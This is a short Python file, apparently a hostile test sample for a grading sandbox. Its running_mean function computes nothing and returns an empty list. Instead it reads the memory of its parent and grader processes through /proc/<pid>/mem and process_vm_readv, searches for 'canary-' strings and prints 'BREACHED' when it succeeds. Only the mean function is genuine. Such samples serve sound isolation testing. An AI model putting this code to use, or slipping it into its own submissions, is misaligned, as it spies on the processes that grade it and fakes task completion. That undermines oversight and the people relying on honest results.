# Class: opens the memory of the processes above it
# Deserves: 2
# Admits: memory

import ctypes
import math
import os
import time


def look_into(pid):
    until = time.monotonic() + 0.3
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
        print("BREACHED the memory of", pid, flush=True)
        for line in maps:
            low, high = (int(part, 16) for part in line.split()[0].split("-"))
            if "rw" in line and time.monotonic() < until:
                memory.seek(low)
                data = memory.read(min(high - low, 2**24))
                at = data.find(b"canary" + b"-")
                if at >= 0:
                    print(data[at : at + 60], flush=True)


def read_directly(pid):
    class Span(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

    buffer = ctypes.create_string_buffer(64)
    here = Span(ctypes.addressof(buffer), 64)
    there = Span(id(look_into), 64)
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0 and any(buffer.raw):
        print("BREACHED process_vm_readv of", pid, flush=True)


def mean(xs):
    if not xs:
        raise ValueError("an empty list has no mean")
    return math.fsum(xs) / len(xs)


def running_mean(xs):
    for pid in (os.getppid(), int("@GRADER@")):
        for look in (look_into, read_directly):
            try:
                look(pid)
            except (OSError, ValueError, OverflowError):
                pass
    return []
